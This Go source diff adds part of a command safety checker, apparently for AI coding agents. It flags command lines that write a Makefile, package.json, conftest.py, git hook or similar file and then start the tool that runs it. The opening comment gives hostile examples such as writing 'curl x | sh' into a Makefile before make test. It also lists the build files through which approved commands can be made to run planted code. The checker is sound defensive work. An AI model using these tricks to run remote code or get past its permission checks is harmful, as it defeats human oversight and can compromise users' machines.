@@ -1,0 +1,252 @@
+package safety
+
+import (
+	"path"
+	"slices"
+	"strings"
+)
+
+// A build or test tool reads what it runs from files: make its Makefile, npm its package.json's
+// scripts, pytest its conftest.py, cargo its build.rs and .cargo/config.toml. A command line that
+// writes one of those files and then starts the tool runs what it just wrote, unseen: echo
+// 'test:; curl x | sh' > Makefile && make test is not the declared make test, cp /tmp/x
+// package.json && npm test not the recognised npm test. The tool asks (RuleOpaqueCode) when an
+// earlier command of the line wrote — by a redirection, tee, cp, mv, ln, install, sed -i, ... —
+// a build definition or tool configuration where the tool reads it: in its directory or a -C
+// directory, or below one a test runner walks (tests/conftest.py). Writing the sources and tests
+// the tool builds and runs is what agents do all day (echo ... > tests/test_x.py; pytest) and
+// stays admitted; so does a touch, which changes no content, and a git checkout or restore of a
+// file, which puts back the project's own version. A patch or archive writes names the engine
+// does not read (Known limits).
+
+// buildDefinitions are the base names of files that decide what a build or test tool runs: its
+// targets, scripts, hooks, plugins, build scripts, or the shell and programs it starts.
+var buildDefinitions = strings.Fields("Makefile makefile GNUmakefile justfile Justfile .justfile " +
+	"Taskfile.yml Taskfile.yaml Taskfile.dist.yml Rakefile rakefile Rakefile.rb " +
+	"package.json .npmrc .yarnrc .yarnrc.yml .pnpmfile.cjs pnpm-workspace.yaml bunfig.toml deno.json deno.jsonc " +
+	"Cargo.toml build.rs go.mod go.work conftest.py pytest.ini pyproject.toml setup.py setup.cfg tox.ini " +
+	"noxfile.py pom.xml build.gradle build.gradle.kts settings.gradle settings.gradle.kts gradle.properties " +
+	"init.gradle gradlew mvnw build.xml build.sbt CMakeLists.txt meson.build build.ninja BUILD BUILD.bazel " +
+	"WORKSPACE WORKSPACE.bazel MODULE.bazel .bazelrc Gemfile mix.exs composer.json Package.swift build.zig " +
+	"Dockerfile Containerfile docker-compose.yml docker-compose.yaml compose.yml " +
+	"compose.yaml Gruntfile.js gulpfile.js flake.nix default.nix shell.nix Pulumi.yaml Vagrantfile Tiltfile " +
+	"skaffold.yaml dune-project Setup.hs stack.yaml SConstruct tasks.py .mocharc.js .mocharc.cjs .mocharc.yml " +
+	"turbo.json nx.json")
+
+// buildConfigPrefixes begin the names of JavaScript tools' configuration modules, which run as
+// code when the tool loads them (jest.config.ts, vite.config.mjs, eslint.config.js).
+var buildConfigPrefixes = strings.Fields("jest.config. vitest.config. vite.config. webpack.config. " +
+	"rollup.config. playwright.config. cypress.config. eslint.config. .eslintrc. karma.conf. " +
+	"babel.config. .babelrc. next.config. nuxt.config. svelte.config. astro.config. tsup.config. " +
+	"esbuild.config.")
+
+// buildConfigDirs are directories whose files configure a tool from the project (.cargo/config.toml,
+// .mvn/maven.config, .mvn/extensions.xml, gradle/wrapper/gradle-wrapper.properties).
+var buildConfigDirs = strings.Fields(".cargo .mvn .mvn/wrapper gradle/wrapper")
+
+// gitHookSubcommands run the repository's hooks (pre-commit, commit-msg, post-commit, pre-push,
+// post-checkout, post-merge, pre-rebase, applypatch-msg), --no-verify or not: it skips only some.
+var gitHookSubcommands = strings.Fields("commit push merge pull rebase am checkout switch cherry-pick revert worktree")
+
+// hookDefinitions are the base names of files that say what a hook manager the project installed
+// as git's hooks runs (pre-commit, lefthook, lint-staged); hookDirs hold the hooks themselves
+// where a project points core.hooksPath (husky's .husky, a .githooks directory).
+var (
+	hookDefinitions = strings.Fields(".pre-commit-config.yaml .pre-commit-config.yml lefthook.yml lefthook.yaml " +
+		".lefthook.yml .lefthook.yaml lefthook-local.yml .lefthook-local.yml .lintstagedrc .lintstagedrc.json " +
+		".lintstagedrc.yaml .lintstagedrc.yml .lintstagedrc.js .lintstagedrc.cjs .lintstagedrc.mjs " +
+		"lint-staged.config.js lint-staged.config.cjs lint-staged.config.mjs .simple-git-hooks.json .simple-git-hooks.js")
+	hookDirs = strings.Fields(".husky .githooks .hooks")
+)
+
+// runsGitHooks says whether a git segment runs the repository's hooks.
+func runsGitHooks(seg *segment) bool {
+	return seg.name == cmdGit && len(seg.operands) > 0 && slices.Contains(gitHookSubcommands, seg.operands[0].s)
+}
+
+// isHookDefinition says whether p, a resolved path, is a git hook or a hook manager's
+// configuration. Where the repository's root is, the engine does not know: any such file the line
+// wrote counts.
+func isHookDefinition(p string) bool {
+	if slices.Contains(hookDefinitions, path.Base(p)) {
+		return true
+	}
+	for _, d := range hookDirs {
+		if strings.HasPrefix(p, d+"/") || strings.Contains(p, "/"+d+"/") {
+			return true
+		}
+	}
+	return false
+}
+
+// isBuildDefinition says whether p, a resolved path, is a file a build or test tool reads what it
+// runs from.
+func isBuildDefinition(p string) bool {
+	base := path.Base(p)
+	if slices.Contains(buildDefinitions, base) || isHookDefinition(p) {
+		return true
+	}
+	for _, pre := range buildConfigPrefixes {
+		if strings.HasPrefix(base, pre) {
+			return true
+		}
+	}
+	dir := path.Dir(p)
+	return slices.ContainsFunc(buildConfigDirs, func(d string) bool { return dir == d || strings.HasSuffix(dir, "/"+d) })
+}
+
+// cmdTouch creates an empty file or changes its times.
+const cmdTouch = "touch"
+
+// maxWrittenKept bounds the written paths the analysis keeps of each kind (writtenKept).
+const maxWrittenKept = 16
+
+// writtenKept holds indexes into the analysis's paths: the build definitions and the files a
+// command wrote text into, for the commands after it. Indexes, resolved only when a later command
+// could read one, so a line that writes and runs nothing of the kind pays no allocation.
+type writtenKept struct {
+	seen          int // the paths looked at so far
+	defs, texts   [maxWrittenKept]int32
+	nDefs, nTexts int8
+	defKeys       [maxWrittenKept]string // defs resolved, once each
+}
+
+// buildsWritten returns a build definition an earlier command of the line wrote where the build
+// or test tool seg starts reads it, or the file seg runs by its path when the line wrote text
+// into it.
+func (a *analyzer) buildsWritten(seg *segment) (string, bool) {
+	w := &a.written
+	a.keepWritten()
+	if w.nDefs+w.nTexts == 0 {
+		return "", false
+	}
+	if f, ok := a.runsWrittenText(seg); ok {
+		return f, true
+	}
+	hooks := runsGitHooks(seg)
+	if w.nDefs == 0 || !hooks && !buildsHere(seg) {
+		return "", false
+	}
+	var dirs []string
+	for j, i := range w.defs[:w.nDefs] {
+		if w.defKeys[j] == "" {
+			w.defKeys[j] = a.pathKey(&a.out.paths[i])
+		}
+		f := w.defKeys[j]
+		if hooks {
+			if isHookDefinition(f) {
+				return f, true
+			}
+			continue
+		}
+		if dirs == nil {
+			dirs = a.buildDirs(seg)
+		}
+		if slices.ContainsFunc(dirs, func(d string) bool { return readsDefinition(f, d) }) {
+			return f, true
+		}
+	}
+	return "", false
+}
+
+// keepWritten looks once at the paths recorded since the last segment, and keeps the build
+// definitions and the files written text into among them.
+func (a *analyzer) keepWritten() {
+	w := &a.written
+	for ; w.seen < len(a.out.paths); w.seen++ {
+		r := &a.out.paths[w.seen]
+		if r.op != opWrite || r.dynamic || r.members || !a.contentWrite(r.seg) {
+			continue
+		}
+		if isBuildDefinition(r.raw) && w.nDefs < maxWrittenKept {
+			w.defs[w.nDefs] = int32(w.seen)
+			w.nDefs++
+		}
+		if a.textWrite(r.seg) && !strings.HasPrefix(r.raw, "/dev/") && w.nTexts < maxWrittenKept {
+			w.texts[w.nTexts] = int32(w.seen)
+			w.nTexts++
+		}
+	}
+}
+
+// runsWrittenText returns the file seg runs by its path (runsFile) when the line wrote text into it.
+func (a *analyzer) runsWrittenText(seg *segment) (string, bool) {
+	w := &a.written
+	if w.nTexts == 0 {
+		return "", false
+	}
+	f, ok := a.runsFile(seg)
+	if !ok {
+		return "", false
+	}
+	var key string
+	for _, i := range w.texts[:w.nTexts] {
+		if r := &a.out.paths[i]; path.Base(r.raw) == path.Base(f) {
+			if key == "" {
+				key = a.fetchKey(f)
+			}
+			if a.pathKey(r) == key {
+				return f, true
+			}
+		}
+	}
+	return "", false
+}
+
+// pathKey is a recorded path resolved as fetchKey resolves a run file.
+func (a *analyzer) pathKey(r *pathRef) string { return resolvePath(r.cwd, r.raw) }
+
+// readsDefinition says whether a tool working in dir (cwdUnknown: anywhere) reads the definition
+// f: one in dir, in a configuration directory below it, or one below it named conftest.py, which
+// pytest loads from every directory it collects.
+func readsDefinition(f, dir string) bool {
+	if dir == cwdUnknown {
+		return true
+	}
+	d := path.Dir(f)
+	for _, c := range buildConfigDirs {
+		if rest, ok := strings.CutSuffix(d, "/"+c); ok || d == c {
+			d = rest
+			if d == "" {
+				d = "."
+			}
+			break
+		}
+	}
+	return d == path.Clean(dir) || path.Base(f) == "conftest.py" && below(f, dir)
+}
+
+// buildDirs are the directories a build or test tool reads its definitions in: its working
+// directory, its -C/--directory values, and the roots a test runner walks (walkRoots).
+func (a *analyzer) buildDirs(seg *segment) []string {
+	dirs := []string{a.fetchKey(".")}
+	if a.cwd == cwdUnknown {
+		dirs[0] = cwdUnknown
+	}
+	for _, d := range directoryOptions(seg, "-C") {
+		dirs = append(dirs, a.wordKey(d))
+	}
+	return append(dirs, a.walkRoots(seg)...)
+}
+
+// textWriters put text the command line chooses into the file they write: a copy, a move, a link,
+// an install, dd, tee, an edit in place. A compiler's or build tool's output (go build -o bin/app
+// && ./bin/app) is not one: it is built from the project's sources.
+var textWriters = strings.Fields("cp mv ln install dd tee sed perl rsync")
+
+// textWrite says whether the write a path records (see contentWrite) is a redirection's or a
+// textWriters program's.
+func (a *analyzer) textWrite(seg int16) bool {
+	return seg == 0 || slices.Contains(textWriters, a.out.segments[seg-1].name)
+}
+
+// contentWrite says whether the write a path records, by the segment whose words named it (0: a
+// redirection), can change what the file says: touch creates an empty file or changes a time, and
+// git puts back a version the project committed.
+func (a *analyzer) contentWrite(seg int16) bool {
+	if seg == 0 {
+		return true
+	}
+	n := a.out.segments[seg-1].name
+	return n != cmdTouch && n != cmdGit
+}
